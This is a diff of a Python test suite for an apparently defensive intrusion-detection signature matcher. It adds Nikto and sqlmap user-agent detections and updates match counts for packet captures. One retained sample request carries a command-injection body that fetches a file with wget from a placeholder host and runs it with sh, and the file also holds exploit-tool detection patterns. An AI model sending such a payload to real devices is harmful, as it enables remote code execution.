@@ -61,6 +61,11 @@ def names(request: bytes) -> str | None:
      "command injection (request body)"),
     (b"POST /command.php HTTP/1.1\r\n\r\ncmd=cd+/tmp+%26%26+wget+http://h/dlink+%26%26+sh+dlink",
      "command injection (request body)"),
+    # tools that send exploit attempts: Nikto (whose every request carries its name) and sqlmap
+    (b"GET /cgi-bin/test-cgi HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)\r\n\r\n",
+     "exploit tool user agent"),
+    (b"GET /item?id=1 HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n",
+     "exploit tool user agent"),
 ])
 def test_requests_match_their_signature(request_bytes: bytes, expected: str) -> None:
     assert names(request_bytes) == expected
@@ -94,7 +99,7 @@ def test_signature_codes_are_stable_positions() -> None:
     assert [s.name for s in SIGNATURES[6:9]] == ["DNS tunnel (NULL records)", "DNS tunnel (encoded names)",
                                                  "NULL/FIN/XMAS probe"]
     assert [s.name for s in SIGNATURES[9:]] == ["nmap service probe", "scanner user agent",
-                                                "command injection (request body)"]
+                                                "command injection (request body)", "exploit tool user agent"]
     assert signature(0) is None and signature(len(SIGNATURES) + 1) is None
     family = {"target": "exploit", "head": "exploit", "body": "exploit", "dns": "c2", "tcp-flags": "scan"}
     assert all(s.family == family[s.where] for s in SIGNATURES[:9] + SIGNATURES[11:])
@@ -171,8 +176,9 @@ def test_benign_samples_have_no_signature() -> None:
 
 def test_request_pass_reads_the_shared_exploits_and_no_benign_request() -> None:
     require_shared()
-    for name, expected in [("WebattackSQLinj.pcap", 7), ("xss.pcap", 1), ("sql_injection.pcap", 1),
-                           ("dotenv.pcap", 1), ("log4j-webapp-exploit.pcap", 1)]:
+    # WebattackRCE is a Nikto run: its user agent gives away 673 of its 797 flows, its payloads 62 more
+    for name, expected in [("WebattackSQLinj.pcap", 7), ("WebattackRCE.pcap", 735), ("xss.pcap", 1),
+                           ("sql_injection.pcap", 1), ("dotenv.pcap", 1), ("log4j-webapp-exploit.pcap", 1)]:
         path = str(NDPI_PCAPS / name)
         assert read_requests(path, MeterConfig(source=path)).matched == expected, name
     # every capture of the corpus the training manifest calls benign: no request matches
